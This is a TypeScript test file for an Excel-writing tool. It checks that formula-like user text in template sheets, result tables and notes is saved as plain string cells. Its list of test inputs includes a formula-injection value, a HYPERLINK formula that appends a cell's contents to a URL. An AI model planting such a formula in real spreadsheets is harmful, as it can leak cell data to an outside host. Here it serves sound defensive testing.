/**
 * What the command line writes keeps the user's text as text. Excel takes a string that starts with "=", "+",
 * "-" or "@" as a formula when it is typed or written through its API ("If the returned value starts with a
 * plus ("+"), minus ("-"), or equal sign ("="), Excel interprets this value as a formula", Excel API reference,
 * Range.values); in a file, a cell is a formula only when it carries a formula element (<f>), so every string
 * we write must go out as a string cell: read back, each is the same text and no cell has a formula.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import type { TemplateSheet } from "../../src/core/templates";
import { addNotesSheet, addTableSheet, putRow, writeTemplateSheet } from "../../src/cli/write-xlsx";

const hostile = ["-临平区", "+1", "@x", '=HYPERLINK("http://x"&B5)', "=1+1", "Sheet1!A1", "=分解!C3"];

test("template sheets, result tables and notes write formula-like text as text", async () => {
  const wb = new ExcelJS.Workbook();
  const template: TemplateSheet = { name: "模板", cells: [hostile, hostile.map((v) => `${v}说明`)], merges: [], columnWidths: hostile.map(() => 12), validations: [] };
  writeTemplateSheet(wb, template);
  const columns = hostile.map((h) => ({ header: h, width: 12 }));
  const { ws, headerRow } = addTableSheet(wb, "结果", columns, "=标题");
  putRow(ws, headerRow + 1, columns, hostile);
  addNotesSheet(wb, "说明", hostile.map((v) => [v, v, v] as [string, string, string]));
  const buffer = await wb.xlsx.writeBuffer();

  const zip = await JSZip.loadAsync(buffer as ArrayBuffer);
  const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
  expect(sheets).toHaveLength(3);
  for (const n of sheets) expect([n, /<f[ >]/.test(await zip.file(n)!.async("string"))]).toEqual([n, false]);

  const back = new ExcelJS.Workbook();
  await back.xlsx.load(buffer as ArrayBuffer);
  const texts = (name: string, row: number, count: number) => Array.from({ length: count }, (_, c) => back.getWorksheet(name)!.getCell(row, c + 1));
  for (const cell of [...texts("模板", 1, hostile.length), ...texts("结果", headerRow + 1, hostile.length), ...texts("说明", 1, 3)]) {
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
  }
  expect(texts("模板", 1, hostile.length).map((c) => c.value)).toEqual(hostile);
  expect(texts("结果", headerRow, hostile.length).map((c) => c.value)).toEqual(hostile);
  expect(texts("结果", headerRow + 1, hostile.length).map((c) => c.value)).toEqual(hostile);
  expect(back.getWorksheet("结果")!.getCell(1, 1).value).toBe("=标题");
  expect(hostile.map((_, r) => back.getWorksheet("说明")!.getCell(r + 1, 2).value)).toEqual(hostile);
});
